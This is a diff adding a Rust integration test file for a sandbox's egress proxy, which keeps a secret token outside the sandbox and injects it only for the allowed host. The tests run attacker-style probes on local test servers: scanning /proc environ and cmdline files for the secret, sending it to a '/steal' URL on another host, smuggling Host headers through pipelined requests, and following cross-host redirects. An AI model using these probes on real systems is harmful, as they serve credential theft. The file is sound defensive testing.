@@ -1,0 +1,438 @@
+//! Secrets that stay outside the sandbox (`[secrets] NAME = { ..., hosts }`),
+//! end to end through `mcpbox exec`: a program inside holds a placeholder,
+//! the egress proxy puts the real value in requests to the secret's host
+//! only. The upstream is an HTTPS server on 127.0.0.1 (names mapped with
+//! `[network.hosts]`) serving a leaf from a test CA that the policy names
+//! as the secret's `ca_file`; it records every request head it gets and
+//! echoes the `Authorization` it received, so a response that would leak
+//! the value back into the sandbox is part of every test.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use crate::common;
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::process::{Command, Output};
+use std::sync::{Arc, Mutex};
+
+use common::{mcpbox, Workspace};
+use mcpbox_egress::exchange::Host;
+
+/// The real value (never in the sandbox) and the variable that holds its
+/// placeholder inside.
+const VALUE: &str = "ghp_R3alV4lueNeverInsideTheSandbox0123456";
+
+/// An HTTPS upstream for `name` on 127.0.0.1: its CA file, port, and the
+/// request heads it received.
+struct Upstream {
+    ca_file: std::path::PathBuf,
+    port: u16,
+    heads: Arc<Mutex<Vec<String>>>,
+}
+
+impl Upstream {
+    fn start(ws: &Workspace, name: &str) -> Upstream {
+        let ca = mcpbox_egress::Authority::new("test upstream").unwrap();
+        let ca_file = ws.path().join(format!("{name}-ca.pem"));
+        std::fs::write(&ca_file, ca.cert_pem()).unwrap();
+        let config = ca.server_config(&Host::Name(name.into())).unwrap();
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let heads = Arc::new(Mutex::new(Vec::new()));
+        let seen = heads.clone();
+        std::thread::spawn(move || {
+            for sock in listener.incoming() {
+                let Ok(sock) = sock else { continue };
+                let config = config.clone();
+                let seen = seen.clone();
+                std::thread::spawn(move || {
+                    let conn = rustls::ServerConnection::new(config).unwrap();
+                    let mut tls = rustls::StreamOwned::new(conn, sock);
+                    serve_http(&mut tls, &seen);
+                });
+            }
+        });
+        Upstream {
+            ca_file,
+            port,
+            heads,
+        }
+    }
+
+    fn heads(&self) -> String {
+        self.heads.lock().unwrap().join("\n---\n")
+    }
+}
+
+/// Answers requests on `s` until it closes: a request without
+/// `Authorization` gets 401 with a Basic challenge (as git expects), one
+/// with it gets 200 and a body that echoes it.
+fn serve_http<S: Read + Write>(s: &mut S, seen: &Mutex<Vec<String>>) {
+    loop {
+        let mut head = Vec::new();
+        let mut b = [0u8; 1];
+        while !head.ends_with(b"\r\n\r\n") {
+            match s.read(&mut b) {
+                Ok(1) => head.push(b[0]),
+                _ => return,
+            }
+        }
+        let head = String::from_utf8_lossy(&head).into_owned();
+        seen.lock().unwrap().push(head.clone());
+        let auth = head
+            .lines()
+            .find(|l| l.to_ascii_lowercase().starts_with("authorization:"))
+            .map(|l| l["authorization:".len()..].trim().to_string());
+        let reply = match auth {
+            None => "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"test\"\r\nContent-Length: 0\r\n\r\n".to_string(),
+            Some(a) => {
+                let body = format!("you sent: {a}\n");
+                format!(
+                    "HTTP/1.1 200 OK\r\nX-Echo: {a}\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{body}",
+                    body.len()
+                )
+            }
+        };
+        if s.write_all(reply.as_bytes()).is_err() || s.flush().is_err() {
+            return;
+        }
+    }
+}
+
+/// A policy whose `TOKEN` stays outside, for `api.test` (the upstream).
+fn policy(ws: &Workspace, up: &Upstream, extra: &str) -> std::path::PathBuf {
+    ws.policy(&format!(
+        "[audit]\npath = \"audit.db\"\n\
+         [network]\nallow = [\"api.test:{port}\"]\n\
+         [network.hosts]\n\"api.test\" = \"127.0.0.1\"\n\"other.test\" = \"127.0.0.1\"\n\
+         [secrets]\nTOKEN = {{ from_env = \"MCPBOX_TEST_GH_TOKEN\", hosts = [\"api.test:{port}\"], ca_file = \"{ca}\" }}\n{extra}",
+        port = up.port,
+        ca = up.ca_file.display(),
+    ))
+}
+
+fn exec(policy: &std::path::Path, argv: &[&str]) -> Output {
+    Command::new(mcpbox())
+        .args(["exec", "--policy", policy.to_str().unwrap(), "--"])
+        .args(argv)
+        .env("MCPBOX_TEST_GH_TOKEN", VALUE)
+        .output()
+        .unwrap()
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// What every test asserts: the sandbox never saw the value, and the
+/// upstream got it.
+fn value_stayed_outside(out: &Output, up: &Upstream) {
+    let all = text(out);
+    assert!(
+        !all.contains(VALUE),
+        "the value reached the sandbox's output:\n{all}"
+    );
+    let heads = up.heads();
+    assert!(
+        heads.contains(VALUE),
+        "the upstream never got the value:\n{heads}\n{all}"
+    );
+}
+
+fn audit(ws: &Workspace) -> String {
+    common::audit::events(&ws.path().join("audit.db"))
+        .iter()
+        .map(|e| e.to_string() + "\n")
+        .collect()
+}
+
+#[test]
+fn python_urllib_sends_the_placeholder_and_the_upstream_gets_the_value() {
+    let ws = Workspace::new();
+    let up = Upstream::start(&ws, "api.test");
+    let p = policy(&ws, &up, "");
+    let script = format!(
+        "import os, urllib.request\n\
+         t = os.environ['TOKEN']\n\
+         print('SHAPE', t.startswith('ghp_'), len(t) == {len})\n\
+         r = urllib.request.Request('https://api.test:{port}/user', headers={{'Authorization': 'token ' + t}})\n\
+         print(urllib.request.urlopen(r, timeout=20).read().decode())\n",
+        len = VALUE.len(),
+        port = up.port
+    );
+    let out = exec(&p, &["python3", "-c", &script]);
+    assert!(out.status.success(), "{}", text(&out));
+    value_stayed_outside(&out, &up);
+    let all = text(&out);
+    assert!(all.contains("SHAPE True True"), "{all}");
+    // the echo came back as the placeholder the sandbox holds
+    assert!(all.contains("you sent: token ghp_"), "{all}");
+    let log = audit(&ws);
+    assert!(log.contains("\"secrets_added\":[\"TOKEN\"]"), "{log}");
+    assert!(
+        log.contains("\"scrubbed_from_responses\":[\"TOKEN\"]"),
+        "{log}"
+    );
+    assert!(!log.contains(VALUE));
+}
+
+#[test]
+fn python_requests_curl_and_node_fetch_each_get_the_value_in_with_a_placeholder() {
+    let ws = Workspace::new();
+    let up = Upstream::start(&ws, "api.test");
+    let p = policy(&ws, &up, "");
+    let url = format!("https://api.test:{}/x", up.port);
+    let requests = format!(
+        "import os, requests\nprint(requests.get('{url}', headers={{'Authorization': 'Bearer ' + os.environ['TOKEN']}}, timeout=20).text)"
+    );
+    let curl = format!("curl -sS --max-time 20 -H \"Authorization: Bearer $TOKEN\" {url}");
+    let node = format!(
+        "fetch('{url}', {{headers: {{authorization: 'Bearer ' + process.env.TOKEN}}}}).then(r => r.text()).then(t => console.log(t), e => {{ console.log('ERROR', e, e.cause); process.exit(1) }})"
+    );
+    for (what, argv) in [
+        ("requests", vec!["python3", "-c", requests.as_str()]),
+        ("curl", vec!["sh", "-c", curl.as_str()]),
+        ("node fetch", vec!["node", "-e", node.as_str()]),
+    ] {
+        let before = up.heads.lock().unwrap().len();
+        let out = exec(&p, &argv);
+        assert!(out.status.success(), "{what}: {}", text(&out));
+        assert!(
+            text(&out).contains("you sent: Bearer ghp_"),
+            "{what}: {}",
+            text(&out)
+        );
+        let heads = up.heads.lock().unwrap()[before..].join("\n");
+        assert!(
+            heads.contains(&format!("Bearer {VALUE}")),
+            "{what}: {heads}"
+        );
+        assert!(!text(&out).contains(VALUE), "{what}: {}", text(&out));
+    }
+}
+
+#[test]
+fn git_over_https_sends_the_token_as_basic_credentials_and_the_upstream_gets_the_value() {
+    let ws = Workspace::new();
+    let up = Upstream::start(&ws, "api.test");
+    let p = policy(&ws, &up, "");
+    let cmd = format!(
+        "git -c credential.helper= ls-remote https://x-access-token:$TOKEN@api.test:{}/repo.git 2>&1; true",
+        up.port
+    );
+    let out = exec(&p, &["sh", "-c", &cmd]);
+    let heads = up.heads();
+    // git asked, was challenged, and sent Basic credentials holding the value
+    use base64::Engine as _;
+    let want = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{VALUE}"));
+    assert!(
+        heads.contains(&format!("Basic {want}")),
+        "{heads}\n{}",
+        text(&out)
+    );
+    assert!(!text(&out).contains(VALUE), "{}", text(&out));
+}
+
+#[test]
+fn a_server_hunting_for_the_value_finds_only_its_placeholder() {
+    let ws = Workspace::new();
+    let up = Upstream::start(&ws, "api.test");
+    let p = policy(&ws, &up, "");
+    // every place a program could look: its environment, its parent's and
+    // init's, every file under the proxy's directory and the CA bundle
+    // the value is handed over reversed, so that the hunter's own command
+    // line does not hold it
+    let reversed: String = VALUE.chars().rev().collect();
+    let hunt = format!(
+        "import os, glob\n\
+         v = {reversed:?}[::-1]\n\
+         found = []\n\
+         if v in str(os.environ): found.append('environ')\n\
+         for p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/run/mcpbox/*'):\n\
+         \x20   try:\n\
+         \x20       if v.encode() in open(p, 'rb').read(): found.append(p)\n\
+         \x20   except Exception: pass\n\
+         print('FOUND' if found else 'NOT FOUND', found)\n\
+         print('BUNDLE', os.environ.get('SSL_CERT_FILE'), os.path.exists(os.environ.get('SSL_CERT_FILE', '/nonexistent')))\n"
+    );
+    let out = exec(&p, &["python3", "-c", &hunt]);
+    let all = text(&out);
+    assert!(out.status.success(), "{all}");
+    assert!(all.contains("NOT FOUND"), "{all}");
+    assert!(
+        all.contains("BUNDLE /run/mcpbox/ca-bundle.pem True"),
+        "{all}"
+    );
+}
+
+#[test]
+fn the_placeholder_sent_to_another_host_arrives_as_the_placeholder_and_is_audited() {
+    let ws = Workspace::new();
+    let up = Upstream::start(&ws, "api.test");
+    // a second allowed host, plain HTTP, that records what it gets
+    let other = TcpListener::bind("127.0.0.1:0").unwrap();
+    let other_port = other.local_addr().unwrap().port();
+    let other_seen = Arc::new(Mutex::new(Vec::new()));
+    let seen = other_seen.clone();
+    std::thread::spawn(move || {
+        for sock in other.incoming() {
+            let Ok(mut sock) = sock else { continue };
+            serve_http(&mut sock, &seen);
+        }
+    });
+    let p = ws.policy(&format!(
+        "[audit]\npath = \"audit.db\"\n\
+         [network]\nallow = [\"api.test:{port}\", \"other.test:{other_port}\"]\n\
+         [network.hosts]\n\"api.test\" = \"127.0.0.1\"\n\"other.test\" = \"127.0.0.1\"\n\
+         [secrets]\nTOKEN = {{ from_env = \"MCPBOX_TEST_GH_TOKEN\", hosts = [\"api.test:{port}\"], ca_file = \"{ca}\" }}\n",
+        port = up.port,
+        ca = up.ca_file.display(),
+    ));
+    let script = format!(
+        "import os, urllib.request\n\
+         os.environ.pop('no_proxy', None); os.environ.pop('NO_PROXY', None)\n\
+         r = urllib.request.Request('http://other.test:{other_port}/steal?t=' + os.environ['TOKEN'], headers={{'Authorization': 'token ' + os.environ['TOKEN']}})\n\
+         print(urllib.request.urlopen(r, timeout=20).read().decode())\n"
+    );
+    let out = exec(&p, &["python3", "-c", &script]);
+    assert!(out.status.success(), "{}", text(&out));
+    let got = other_seen.lock().unwrap().join("\n");
+    assert!(got.contains("Authorization: token ghp_"), "{got}");
+    assert!(
+        !got.contains(VALUE),
+        "the value went to a host it is not for: {got}"
+    );
+    let log = audit(&ws);
+    assert!(log.contains("secret.placeholder_elsewhere"), "{log}");
+    assert!(
+        log.contains("\"placeholder_elsewhere\":[\"TOKEN\"]"),
+        "{log}"
+    );
+}
+
+#[test]
+fn a_host_header_other_than_the_tls_name_is_refused_and_never_reaches_the_upstream() {
+    let ws = Workspace::new();
+    let up = Upstream::start(&ws, "api.test");
+    let p = policy(&ws, &up, "");
+    // TLS to api.test, then requests naming other hosts: one straight away,
+    // one pipelined behind a good request
+    let script = format!(
+        "import os, socket, ssl\n\
+         t = os.environ['TOKEN']\n\
+         ctx = ssl.create_default_context()\n\
+         def send(raw):\n\
+         \x20   s = socket.create_connection(('api.test', {port}), timeout=20)\n\
+         \x20   c = ctx.wrap_socket(s, server_hostname='api.test')\n\
+         \x20   c.sendall(raw.encode())\n\
+         \x20   out = b''\n\
+         \x20   while True:\n\
+         \x20       b = c.recv(65536)\n\
+         \x20       if not b: break\n\
+         \x20       out += b\n\
+         \x20   return out.decode(errors='replace')\n\
+         print('ONE', send('GET / HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: token ' + t + '\\r\\n\\r\\n').split('\\r\\n')[0])\n\
+         r = send('GET /a HTTP/1.1\\r\\nHost: api.test:{port}\\r\\nAuthorization: token ' + t + '\\r\\n\\r\\nGET /b HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: token ' + t + '\\r\\n\\r\\n')\n\
+         import re\n\
+         print('TWO', re.findall(r'HTTP/1.1 [0-9]{{3}}', r))\n",
+        port = up.port
+    );
+    let out = exec(&p, &["python3", "-c", &script]);
+    let all = text(&out);
+    assert!(out.status.success(), "{all}");
+    assert!(all.contains("ONE HTTP/1.1 421"), "{all}");
+    assert!(
+        all.contains("TWO ['HTTP/1.1 200', 'HTTP/1.1 421']"),
+        "{all}"
+    );
+    let heads = up.heads();
+    assert_eq!(heads.matches("GET ").count(), 1, "{heads}");
+    assert!(!heads.contains("other.test"), "{heads}");
+    assert!(audit(&ws).contains("secret.request_refused"));
+}
+
+#[test]
+fn a_redirect_to_another_host_carries_only_the_placeholder() {
+    let ws = Workspace::new();
+    // api.test answers every request with a redirect to other.test
+    let other = TcpListener::bind("127.0.0.1:0").unwrap();
+    let other_port = other.local_addr().unwrap().port();
+    let other_seen = Arc::new(Mutex::new(Vec::new()));
+    let seen = other_seen.clone();
+    std::thread::spawn(move || {
+        for sock in other.incoming() {
+            let Ok(mut sock) = sock else { continue };
+            serve_http(&mut sock, &seen);
+        }
+    });
+    let ca = mcpbox_egress::Authority::new("test upstream").unwrap();
+    let ca_file = ws.path().join("ca.pem");
+    std::fs::write(&ca_file, ca.cert_pem()).unwrap();
+    let config = ca.server_config(&Host::Name("api.test".into())).unwrap();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for sock in listener.incoming() {
+            let Ok(sock) = sock else { continue };
+            let conn = rustls::ServerConnection::new(config.clone()).unwrap();
+            let mut tls = rustls::StreamOwned::new(conn, sock);
+            let mut head = Vec::new();
+            let mut b = [0u8; 1];
+            while !head.ends_with(b"\r\n\r\n") {
+                if tls.read(&mut b).unwrap_or(0) != 1 {
+                    break;
+                }
+                head.push(b[0]);
+            }
+            let _ = write!(
+                tls,
+                "HTTP/1.1 302 Found\r\nLocation: http://other.test:{other_port}/landed\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+            );
+            tls.conn.send_close_notify();
+            let _ = tls.conn.complete_io(&mut tls.sock);
+        }
+    });
+    let p = ws.policy(&format!(
+        "[audit]\npath = \"audit.db\"\n\
+         [network]\nallow = [\"api.test:{port}\", \"other.test:{other_port}\"]\n\
+         [network.hosts]\n\"api.test\" = \"127.0.0.1\"\n\"other.test\" = \"127.0.0.1\"\n\
+         [secrets]\nTOKEN = {{ from_env = \"MCPBOX_TEST_GH_TOKEN\", hosts = [\"api.test:{port}\"], ca_file = \"{ca}\" }}\n",
+        ca = ca_file.display(),
+    ));
+    // curl follows the redirect and keeps the header (--location-trusted)
+    let cmd = format!(
+        "curl -v -sS --max-time 20 --location-trusted -H \"Authorization: token $TOKEN\" https://api.test:{port}/start"
+    );
+    let out = exec(&p, &["sh", "-c", &cmd]);
+    assert!(out.status.success(), "{}", text(&out));
+    let got = other_seen.lock().unwrap().join("\n");
+    assert!(got.contains("GET /landed"), "{got}\n{}", text(&out));
+    assert!(got.contains("Authorization: token ghp_"), "{got}");
+    assert!(
+        !got.contains(VALUE),
+        "the redirect carried the value: {got}"
+    );
+}
+
+#[test]
+fn a_value_too_short_for_a_placeholder_is_refused_at_start_naming_the_secret() {
+    let ws = Workspace::new();
+    let up = Upstream::start(&ws, "api.test");
+    let p = policy(&ws, &up, "");
+    let out = Command::new(mcpbox())
+        .args(["exec", "--policy", p.to_str().unwrap(), "--", "true"])
+        .env("MCPBOX_TEST_GH_TOKEN", "ghp_short")
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("secrets.TOKEN") && err.contains("too short"),
+        "{err}"
+    );
+    assert!(!err.contains("ghp_short"), "{err}");
+}
